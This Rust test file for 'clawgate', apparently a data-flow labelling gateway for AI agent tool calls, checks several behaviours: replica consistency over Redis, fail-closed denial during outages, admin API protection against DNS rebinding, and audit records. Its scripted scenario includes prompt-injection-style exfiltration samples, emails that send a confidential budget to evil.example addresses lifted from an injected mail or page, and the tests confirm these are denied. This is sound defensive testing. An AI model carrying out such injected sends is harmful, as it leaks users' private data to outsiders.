//! Data-flow labels across processes: two gateways sharing one real Redis (`redis-server` on a
//! free port, started here) decide exactly as one process does, and a Redis outage (hung, then
//! killed) denies label-dependent calls within the configured timeout, never allowing one, until
//! Redis is back. Plus the admin API's view of a session's labels.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code: a panic is a failed test")]

use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use clawgate_tests::{Client, TestGateway};
use serde_json::{Value, json};

const FIXTURE: &str = env!("CARGO_BIN_EXE_fixture-upstream");
const TRUSTED_CONTROL: &str = include_str!("../../policies/library/labels-trusted-control.cedar");
const READERS: &str = include_str!("../../policies/library/labels-readers.cedar");
const BODY: &str = "Draft budget attached: 1.2M for Q3. Please review before Friday.";

struct Redis {
    port: u16,
    child: Child,
}

impl Redis {
    fn start_on(port: u16) -> Self {
        let child = Command::new("redis-server")
            .args(["--port", &port.to_string(), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("redis-server is installed");
        let r = Self { port, child };
        let up = (0..100).any(|_| {
            std::thread::sleep(Duration::from_millis(50));
            std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
        });
        assert!(up, "redis-server did not start on port {port}");
        r
    }

    fn start() -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        Self::start_on(port)
    }

    fn signal(&self, sig: &str) {
        let ok = Command::new("kill").args([sig, &self.child.id().to_string()]).status().unwrap().success();
        assert!(ok, "kill {sig}");
    }

    fn kill(mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Redis {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn config(store: &str) -> String {
    let policies = format!("@id(\"base\")\npermit (principal, action, resource);\n{TRUSTED_CONTROL}\n{READERS}");
    format!(
        r#"[policy]
inline = '''
{policies}
'''

[labels]
{store}
timeout = "300ms"

[[labels.tool]]
name = "demo__read_thread"
each = "messages[*]"
readers = ["from", "to", "cc"]
trusted_if_domain = {{ field = "from", domains = ["corp.example"] }}

[[labels.tool]]
name = "demo__send_email"
control = ["to"]
recipients = ["to"]

[[upstream]]
name = "demo"
transport = "stdio"
command = "{FIXTURE}"
args = ["demo"]
trusted = true
"#
    )
}

fn redis_store(port: u16) -> String {
    format!("store = \"redis\"\nredis_url = \"redis://127.0.0.1:{port}/0\"")
}

/// The outcome of a call: "allow", or "deny:<reason>:<policies>".
fn outcome(r: &Value) -> String {
    if r.get("result").is_some() {
        return "allow".into();
    }
    let d = &r["error"]["data"];
    let mut p: Vec<String> = d["policies"].as_array().map(|a| a.iter().filter_map(Value::as_str).map(str::to_owned).collect()).unwrap_or_default();
    p.sort();
    format!("deny:{}:{}:{}", r["error"]["code"], d["reason"].as_str().unwrap_or("?"), p.join(","))
}

fn reply(to: &[&str]) -> Value {
    json!({"to": to, "subject": "Q3 planning", "body": BODY, "thread_id": "t-100"})
}

/// The scenario: reads on one side, sends on the other, alternating.
fn script() -> Vec<(&'static str, Value)> {
    vec![
        ("demo__read_thread", json!({"thread_id": "t-100"})),
        ("demo__read_thread", json!({"thread_id": "t-200"})),
        ("demo__send_email", reply(&["alice@corp.example", "bob@corp.example"])),
        ("demo__send_email", reply(&["audit@evil.example"])),
        ("demo__fetch", json!({"url": "https://blog.example/post"})),
        ("demo__send_email", reply(&["leak@evil.example"])),
        ("demo__send_email", reply(&["bob@corp.example"])),
    ]
}

async fn run(clients: &[&Client]) -> Vec<String> {
    let mut out = Vec::new();
    for (i, (tool, args)) in script().into_iter().enumerate() {
        let c = clients[i % clients.len()];
        out.push(outcome(&c.call(tool, args).await.unwrap().response));
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replicas_on_one_redis_decide_like_one_process() {
    let redis = Redis::start();
    let cfg = config(&redis_store(redis.port));
    let a = TestGateway::start(&cfg).await.unwrap();
    let b = TestGateway::start(&cfg).await.unwrap();
    // One 2026-07-28 caller (no session: its labels are scoped to its credential), its calls
    // alternating between the two processes.
    let (ca, cb) = (Client::stateless(&a.url()), Client::stateless(&b.url()));
    let shared = run(&[&ca, &cb]).await;

    let solo = TestGateway::start(&config("")).await.unwrap();
    let single = run(&[&Client::stateless(&solo.url())]).await;
    assert_eq!(shared, single, "two replicas on one Redis decide exactly as one in-memory process");
    // And the decisions are the intended ones.
    assert_eq!(single[..3], ["allow", "allow", "allow"]);
    assert_eq!(single[3], "deny:-32050:forbidden:labels-readers,labels-trusted-control", "to an address from the injected mail (read on the other replica)");
    assert_eq!(single[5], "deny:-32050:forbidden:labels-readers,labels-trusted-control", "to an address from the page");
    assert_eq!(single[6], "allow");
    // Without the shared store, the replica that did not see t-100 would not know the body's
    // readers: prove the run above really depended on sharing.
    let c = TestGateway::start(&config("")).await.unwrap();
    let d = TestGateway::start(&config("")).await.unwrap();
    let unshared = run(&[&Client::stateless(&c.url()), &Client::stateless(&d.url())]).await;
    assert_ne!(unshared, single, "separate in-memory stores must differ (else the test proves nothing)");
    for g in [a, b, solo, c, d] {
        g.stop().await;
    }
}

/// A session whose shared log already holds `max_results` is refused before its next call
/// runs: the result could not be recorded, so the upstream must not act on the call at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_label_log_denies_before_the_upstream_acts() {
    let redis = Redis::start();
    let g = TestGateway::start(&config(&format!("{}\nmax_results = 2", redis_store(redis.port)))).await.unwrap();
    let c = Client::legacy(&g.url()).await.unwrap();
    let send = |to: &'static str| c.call("demo__send_email", json!({"to": [to], "subject": "hi", "body": "see you at noon"}));
    assert_eq!(outcome(&c.call("demo__read_thread", json!({"thread_id": "t-100"})).await.unwrap().response), "allow");
    assert_eq!(outcome(&send("alice@corp.example").await.unwrap().response), "allow", "the second result fills the log");
    let r = send("bob@corp.example").await.unwrap().response;
    assert_eq!(outcome(&r), "deny:-32050:label_store_unavailable:", "{r}");
    assert_eq!(r["error"]["message"], "denied: the label store is unavailable, so data-flow labels are unknown: this session's label log is full", "{r}");
    // Another session (its own, empty log) sees what the demo upstream actually sent.
    let other = Client::legacy(&g.url()).await.unwrap();
    let sent = other.call("demo__list_sent", json!({})).await.unwrap().response;
    let to: Vec<&Value> = sent["result"]["structuredContent"]["sent"].as_array().unwrap().iter().map(|m| &m["to"][0]).collect();
    assert_eq!(to, [&json!("alice@corp.example")], "the refused mail was never sent: {sent}");
    g.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redis_outage_denies_within_the_timeout_and_recovers() {
    let redis = Redis::start();
    let port = redis.port;
    let g = TestGateway::start(&config(&redis_store(port))).await.unwrap();
    let c = Client::legacy(&g.url()).await.unwrap();
    let read = || c.call("demo__read_thread", json!({"thread_id": "t-100"}));
    assert_eq!(outcome(&read().await.unwrap().response), "allow");
    // The client reads what kind of failure it was, never the store's or the OS's own words.
    let says_only_the_kind = |r: &serde_json::Value| {
        let m = r["error"]["message"].as_str().unwrap_or_default();
        let kinds = ["the shared label store could not be reached", "the shared label store did not answer in time"];
        assert!(kinds.iter().any(|k| m == format!("denied: the label store is unavailable, so data-flow labels are unknown: {k}")), "{r}");
    };

    // Hung: Redis stops answering. Every call is denied within the timeout (300 ms) plus
    // scheduling slack, none allowed.
    redis.signal("-STOP");
    for _ in 0..5 {
        let t = Instant::now();
        let r = read().await.unwrap().response;
        let took = t.elapsed();
        assert_eq!(outcome(&r), "deny:-32050:label_store_unavailable:", "{r}");
        says_only_the_kind(&r);
        assert!(took < Duration::from_millis(300 + 400), "denied after {took:?}");
        let send = c.call("demo__send_email", reply(&["alice@corp.example"])).await.unwrap().response;
        assert!(outcome(&send).starts_with("deny:"), "{send}");
    }
    redis.signal("-CONT");

    // Killed: connections are refused. Still denied, quickly.
    redis.kill();
    for _ in 0..5 {
        let t = Instant::now();
        let r = read().await.unwrap().response;
        assert_eq!(outcome(&r), "deny:-32050:label_store_unavailable:", "{r}");
        says_only_the_kind(&r);
        assert!(t.elapsed() < Duration::from_millis(300 + 400), "denied after {:?}", t.elapsed());
    }

    // Back (empty, on the same port): service recovers.
    let _redis = Redis::start_on(port);
    let mut recovered = false;
    for _ in 0..50 {
        if outcome(&read().await.unwrap().response) == "allow" {
            recovered = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(recovered, "calls are allowed again once Redis is back");
    // The labels this process already knew survive the outage: the body is still traced.
    let send = c.call("demo__send_email", reply(&["audit@evil.example"])).await.unwrap().response;
    assert!(outcome(&send).contains("labels-readers"), "{send}");
    g.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_admin_api_shows_a_sessions_labels() {
    let g = TestGateway::start(&config("")).await.unwrap();
    let c = Client::legacy(&g.url()).await.unwrap();
    c.call("demo__read_thread", json!({"thread_id": "t-200"})).await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(clawgate::admin::serve(std::sync::Arc::clone(&g.gw), listener, std::future::pending()));
    let http = reqwest::Client::new();
    let scopes: Value = serde_json::from_str(&http.get(format!("http://{addr}/labels")).send().await.unwrap().text().await.unwrap()).unwrap();
    let scope = format!("s:{}", c.session.clone().unwrap());
    assert!(scopes["scopes"].as_array().unwrap().iter().any(|s| s == &json!(scope)), "{scopes}");
    let r: Value = serde_json::from_str(&http.get(format!("http://{addr}/labels/{scope}")).send().await.unwrap().text().await.unwrap()).unwrap();
    assert_eq!(r["session"]["trusted"], false, "the outside mail is untrusted: {r}");
    assert_eq!(r["session"]["readers"], json!(["billing@vendor.example", "me@corp.example"]), "{r}");
    assert!(r["fields"].as_u64().unwrap() > 3, "{r}");
    let missing = http.get(format!("http://{addr}/labels/s:nope")).send().await.unwrap();
    assert_eq!(missing.status(), 404);
    // With no admin token, a request a web page makes after rebinding its own name to
    // 127.0.0.1 carries that name as Host (and its origin): refused, on every route.
    for path in ["/labels", "/health", "/quarantine", &format!("/labels/{scope}")] {
        let url = format!("http://{addr}{path}");
        let rebound = http.get(&url).header("host", format!("attacker.example:{}", addr.port())).send().await.unwrap();
        assert_eq!(rebound.status(), 403, "{path}");
        let body = rebound.text().await.unwrap();
        assert!(!body.contains(&scope), "{path}: {body}");
        let cross = http.get(&url).header("origin", "http://attacker.example").send().await.unwrap();
        assert_eq!(cross.status(), 403, "{path}");
        let local = http.get(&url).header("host", format!("localhost:{}", addr.port())).header("origin", "http://127.0.0.1:5173").send().await.unwrap();
        assert_eq!(local.status(), 200, "{path}");
    }
    g.stop().await;
}

/// The audit's decision record carries the call's labels (built on the audit writer, after the
/// call has gone on): the denied send names the mail it copied and the policy that stopped it,
/// and the chain verifies. Shutdown flushes the writer, so the file is complete when it returns.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decision_records_carry_the_calls_labels() {
    let dir = tempfile::Builder::new().prefix("clawgate-labels-audit").tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let g = TestGateway::start(&format!("{}\n[audit]\nfile = \"{}\"\n", config(""), audit.display())).await.unwrap();
    let c = Client::legacy(&g.url()).await.unwrap();
    let outcomes = run(&[&c]).await;
    g.stop().await;
    assert_eq!(clawgate::audit::verify(&audit), Ok(std::fs::read_to_string(&audit).unwrap().lines().count()));
    let decisions: Vec<Value> = std::fs::read_to_string(&audit).unwrap().lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).filter(|r| r["event"] == "decision").collect();
    assert_eq!(decisions.len(), outcomes.len(), "one decision per call: {decisions:?}");
    // Each record is bound to its call by the call digest (computed only because the record
    // needs it): present on every record, and different for calls with different arguments.
    let calls: Vec<&str> = decisions.iter().map(|d| d["call"].as_str().unwrap_or_default()).collect();
    assert!(calls.iter().all(|c| c.len() == 71 && c.starts_with("sha256:") && c[7..].bytes().all(|b| b.is_ascii_hexdigit())), "{calls:?}");
    assert_eq!(calls.iter().collect::<std::collections::BTreeSet<_>>().len(), calls.len(), "{calls:?}");
    // The fourth call sends the copied mail to an outside address.
    let (send, out) = (&decisions[3], &outcomes[3]);
    assert!(out.contains("labels-readers"), "{out}");
    assert_eq!((send["decision"].as_str(), send["target"].as_str()), (Some("deny"), Some("demo__send_email")), "{send}");
    let l = &send["labels"];
    assert_eq!(l["session"]["trusted"], false, "{l}");
    assert!(l["args"]["body"]["sources"].as_array().unwrap().contains(&json!("matched")), "{l}");
    assert!(l["args"]["body"]["matched"].as_array().unwrap().iter().any(|o| o.as_str().unwrap().starts_with("demo/read_thread#")), "{l}");
    // The body came from the corporate thread; the outside address from the vendor's mail.
    assert_eq!(l["data"]["readers"], json!(["alice@corp.example", "bob@corp.example", "me@corp.example"]), "{l}");
    assert_eq!((&l["control"]["trusted"], &l["control"]["readers"]), (&json!(false), &json!(["billing@vendor.example", "me@corp.example"])), "{l}");
}
